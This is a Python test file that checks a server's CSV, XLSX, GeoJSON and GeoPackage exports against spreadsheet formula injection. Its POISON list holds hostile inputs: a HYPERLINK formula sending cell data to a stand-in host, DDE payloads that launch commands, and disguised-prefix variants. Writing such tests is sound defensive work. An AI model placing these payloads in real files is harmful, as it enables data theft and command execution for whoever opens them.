"""No list of ours computes: every text of every list, in every form that a spreadsheet opens."""

from __future__ import annotations

import csv
import io
import json
import re
import sqlite3
from collections import defaultdict
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from zipfile import ZipFile

from server.exports.catalogue import EXPORTS, Format
from server.exports.layers import geojson_text, write_gpkg
from server.exports.lists import cells_of, csv_lines, titles_of, write_xlsx
from server.figures.reports import csv_of
from server.ids import new_id
from server.maps.features.schemas import Collection
from tests.smallcounty import START

POISON = (
    "=HYPERLINK(\"http://elsewhere.example/?\"&A1,\"点此\")",
    "=cmd|'/c calc'!A0",
    "+1+cmd|'/c calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|'/c calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "+86 138=1",
    "=\"a\",\"b\"\n=1",
)  # fmt: skip
_COMPUTES = re.compile(r"[=+\-@\t\r\n＝＋－＠]")


def is_inert(cell: str) -> bool:
    """Whether no spreadsheet takes this for anything but text (or a telephone number)."""
    return not _COMPUTES.match(cell) or bool(re.fullmatch(r"\+[0-9]{3,20}", cell))


def poisoned(collection: Collection, *, plain: bool) -> list[dict[str, Any]]:
    """A row for each poison, in whatever column takes text."""
    columns = collection.shown(plain=plain)
    texts = [column.name for column in columns if column.kind in {"string", "text", ""}]
    assert texts, f"{collection.id}: which columns are texts?"
    empty = {column.name: None for column in columns} | {"geometry": None}
    return [{**empty, "id": new_id(START), **dict.fromkeys(texts, poison)} for poison in POISON]


def lists() -> Iterator[tuple[Collection, bool]]:
    for collection in EXPORTS.values():
        for plain in (False, True):
            yield collection, plain


def test_no_list_of_values_computes() -> None:
    for collection, plain in lists():
        rows = poisoned(collection, plain=plain)
        titles = titles_of(collection, plain=plain)
        text = "".join(csv_lines(titles, cells_of(collection, [rows], plain=plain)))
        back = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
        assert len(back) == len(rows) + 1
        for line in back:
            assert len(line) == len(titles), "no text becomes two cells"
            for cell in line:
                assert is_inert(cell), (collection.id, plain, cell)


def test_no_workbook_computes_and_none_links(tmp_path: Path) -> None:
    for number, (collection, plain) in enumerate(lists()):
        path = tmp_path / f"{number}.xlsx"
        titles = titles_of(collection, plain=plain)
        rows = cells_of(collection, [poisoned(collection, plain=plain)], plain=plain)
        write_xlsx(path, [(collection.title, titles, rows)])
        with ZipFile(path) as book:
            for part in book.namelist():
                inside = book.read(part)
                assert b"<f>" not in inside, (collection.id, part)
                assert b"<f " not in inside, (collection.id, part)
                assert b"<hyperlink" not in inside, (collection.id, part)
                assert b'TargetMode="External"' not in inside, (collection.id, part)
            assert "xl/worksheets/sheet1.xml" in book.namelist()


def test_layers_keep_texts_as_texts(tmp_path: Path) -> None:
    """A GIS program shows them; whoever makes a list of them has the same letters before them."""
    for number, (collection, plain) in enumerate(lists()):
        rows = poisoned(collection, plain=plain)
        read = json.loads("".join(geojson_text(collection, [rows], plain=plain)))
        assert len(read["features"]) == len(rows), collection.id
        path = tmp_path / f"{number}.gpkg"
        write_gpkg(path, collection, [rows], plain=plain)
        with sqlite3.connect(path) as file:
            found = file.execute(f'SELECT * FROM "{collection.id}"').fetchall()
        file.close()
        assert len(found) == len(rows), collection.id
        kept = {cell for row in found for cell in row if isinstance(cell, str)}
        assert POISON[0] in kept, collection.id


def test_what_stands_above_and_on_the_sheet_is_ours_and_inert() -> None:
    for collection, plain in lists():
        for title in [*titles_of(collection, plain=plain), collection.title, collection.id]:
            assert is_inert(title), title
        assert not re.search(r"[\[\]:*?/\\]", collection.title), "Excel takes it for a sheet's name"
    assert set(Format) == {"geojson", "gpkg", "xlsx", "csv"}, "a new form needs a test here"


def test_the_name_of_an_area_computes_in_no_figure() -> None:
    nothing: Any = defaultdict(lambda: {"n": 1, "of": 2, "ratio": 0.5, "ratio_step": None})
    rows = [{"key": one, "name": one, "shares": nothing} for one in POISON]
    total = {"key": "", "name": "合计", "shares": nothing}
    text = csv_of({"figure": "settled", "by": "area", "rows": rows, "total": total})
    lines = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
    assert [cell for line in lines for cell in line if not is_inert(cell)] == []
    assert f"'{POISON[0]}" in lines[1]
